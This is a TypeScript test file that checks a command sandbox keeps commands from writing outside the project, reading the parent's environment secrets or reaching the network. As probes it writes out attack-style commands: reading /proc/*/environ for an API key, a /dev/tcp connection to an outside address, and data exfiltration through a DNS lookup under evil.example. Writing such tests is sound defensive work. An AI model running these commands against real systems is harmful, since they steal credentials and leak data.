import { afterEach, describe, expect, test } from "bun:test";
import { createSocket } from "node:dgram";
import { accessSync, constants, existsSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { endAllProcesses } from "../../src/infrastructure/process/all-processes.ts";
import { findBoxProblem, makeBoxedProject } from "../support/boxed-project.ts";

const problem = await findBoxProblem();

afterEach(endAllProcesses);

/** File systems beside the one of the project that this process may write to. */
function findWritableMounts(): string[] {
  const points = readFileSync("/proc/self/mountinfo", "utf8")
    .split("\n")
    .flatMap((line) => line.split(" ")[4] ?? [])
    .filter((point) => point !== "/" && !/^\/(?:proc|sys)\b/.test(point));
  return [...new Set(points)].filter((point) => {
    try {
      accessSync(point, constants.W_OK | constants.X_OK);
      return true;
    } catch {
      return false; // Not for this user, box or not.
    }
  });
}

describe.skipIf(problem !== undefined)("a sandboxed command leaves nothing behind", () => {
  test("on another file system that it could write to without the sandbox", async () => {
    const { run } = await makeBoxedProject();
    const canary = `canary-${process.pid}-${Date.now()}`;
    const points = new Set(["/dev/shm", ...findWritableMounts(), "/var/tmp"]);
    const files = [...points].map((point) => join(point, canary));
    const takeLeft = () => {
      const left = files.filter((file) => existsSync(file));
      for (const file of left) rmSync(file);
      return left;
    };
    const attempt = files.map((file) => `echo x > ${file}`).join("\n");
    await run(attempt);
    expect(takeLeft()).toEqual([]);
    await run(attempt, { outside: true });
    expect(takeLeft()).not.toEqual([]);
  });
});

describe.skipIf(problem !== undefined)("a sandboxed command cannot read this program's environment", () => {
  test("through any process", async () => {
    const { top, root, home } = await makeBoxedProject();
    const look = [
      "cat /proc/*/environ /proc/*/task/*/environ /proc/$PPID/environ",
      "strings -n 4 /proc/*/cmdline",
      "ps eww -e; ps auxeww; env",
    ].join("; ");
    const script = join(import.meta.dir, "..", "support", "run-boxed.ts");
    const command = `{ ${look}; } > dump 2>&1; cat /proc/*/root/proc/*/environ >> dump 2>&1; true`;
    const child = Bun.spawn([process.execPath, script, top, command], {
      env: { PATH: process.env.PATH, HOME: home, ANTHROPIC_API_KEY: "nonce-of-the-parent" },
    });
    expect(await child.exited).toBe(0);
    const dump = readFileSync(join(root, "dump"), "latin1");
    expect(dump).toContain("PATH=");
    expect(dump).not.toContain("nonce-of-the-parent");
  });
});

describe.skipIf(problem !== undefined)("a sandboxed command cannot send packets outside", () => {
  test("since its own network has no route", async () => {
    const { run } = await makeBoxedProject();
    const look = [
      "readlink /proc/self/ns/net",
      "sed -n 's/ *\\([^ ]*\\):.*/\\1/p' /proc/net/dev",
      "tail -n +2 /proc/net/route",
      "exec 3<> /dev/tcp/203.0.113.1/80",
    ];
    const { output } = await run(look.join("; "));
    const [namespace, device, ...rest] = output.split("\n");
    expect(namespace).toMatch(/^net:\[\d+\]$/);
    expect(namespace).not.toBe(readlinkSync("/proc/self/ns/net"));
    expect([device, rest[0]]).toEqual(["lo", expect.stringContaining("Network is unreachable")]);
  });

  test("with data in a host name that is looked up", async () => {
    const { run } = await makeBoxedProject();
    let packets = 0;
    const server = createSocket("udp4", () => {
      packets += 1;
    });
    await new Promise<void>((resolve) => server.bind(0, "127.0.0.1", resolve));
    const dns = `const { Resolver } = require("node:dns"); const r = new Resolver({ timeout: 200, tries: 1 }); r.setServers(["127.0.0.1:${server.address().port}"]); r.resolve4(process.argv[1], () => process.exit(0));`;
    const lookUp = `timeout 20 bun -e '${dns}' "$(id -un).evil.example"`;
    await run(`${lookUp}; echo x > /dev/udp/127.0.0.1/${server.address().port}`);
    // Data sent on this machine has arrived when the sender continues, so data from outside arrives last.
    const before = packets;
    await run(lookUp, { outside: true });
    while (packets === before) await Bun.sleep(5);
    server.close();
    expect(before).toBe(0);
  });

  test("to an agent whose socket is among other programs' temporary files", async () => {
    const { run } = await makeBoxedProject();
    const path = `/var/tmp/agent-${process.pid}-${Date.now()}.sock`;
    let accepted = 0;
    const server = createServer(() => {
      accepted += 1;
    });
    await new Promise<void>((resolve) => server.listen(path, resolve));
    const connecting = `bun -e 'require("node:net").connect("${path}").on("connect", () => process.exit(0)).on("error", (e) => { console.log(e.code); process.exit(1) })'`;
    const { output } = await run(connecting);
    const before = accepted;
    expect((await run(connecting, { outside: true })).isError).toBe(false);
    while (accepted === before) await Bun.sleep(5);
    server.close();
    expect([output.includes("ENOENT"), before]).toEqual([true, 0]);
  });
});
